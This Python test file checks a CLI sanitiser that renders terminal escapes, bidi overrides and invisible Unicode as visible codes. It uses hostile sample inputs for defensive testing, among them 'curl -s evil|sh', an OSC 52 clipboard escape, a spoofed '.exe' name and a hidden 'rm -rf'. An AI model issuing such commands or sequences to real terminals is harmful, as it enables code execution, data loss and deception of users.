"""What a terminal must never obey, and a reader must never miss (B41, B42)."""
from __future__ import annotations

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.cli.visible import deceptive, visible


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain text, ünïcode, 漢字 and 👍", "plain text, ünïcode, 漢字 and 👍"),
        ("two\nlines\tand a tab", "two\nlines\tand a tab"),
        ("curl -s evil|sh\r\x1b[2K   command: ls", "curl -s evil|sh<U+000D><U+001B>[2K   command: ls"),
        ("\x1b]52;c;aGk=\x07", "<U+001B>]52;c;aGk=<U+0007>"),
        ("\x9b31m", "<U+009B>31m"),
        ("a\x08b\x7f", "a<U+0008>b<U+007F>"),
        ("\u202egnp.exe\u2066", "<U+202E>gnp.exe<U+2066>"),
        ("l\u200bs\ufeff\u2028\U000e0041", "l<U+200B>s<U+FEFF><U+2028><U+E0041>"),
        ("\U000e0100\U0001d173\U0001bca0\ufe0f", "<U+E0100><U+1D173><U+1BCA0><U+FE0F>"),
        ("ls\u00a0-la", "ls<U+00A0>-la"),
        ("\u3164\u2800\u115f", "<U+3164><U+2800><U+115F>"),
        ("not <U+202E> ours, <b> is", "not <U+003C>U+202E> ours, <b> is"),
        (b"caf\xe9 \xff", "caf<0xE9> <0xFF>"),
    ],
)
def test_harm_is_shown(text: str | bytes, shown: str) -> None:
    assert visible(text) == shown


def test_a_single_line_stays_one() -> None:
    assert visible("a\nb\tc", lines=False) == "a<U+000A>b<U+0009>c"


def test_what_the_eye_misses_is_told() -> None:
    assert deceptive("rm\u200b -rf")
    assert not deceptive("rm -rf é\n")


@given(st.text())
def test_nothing_harmful_is_left(text: str) -> None:
    for char in visible(text):
        assert char in "\n\t " or unicodedata.category(char)[0] not in "CZ"


@given(st.text(), st.text())
def test_two_texts_never_look_the_same(one: str, other: str) -> None:
    assert (visible(one) == visible(other)) == (one == other)


@given(st.binary(), st.binary())
def test_two_byte_strings_never_look_the_same(one: bytes, other: bytes) -> None:
    assert (visible(one) == visible(other)) == (one == other)
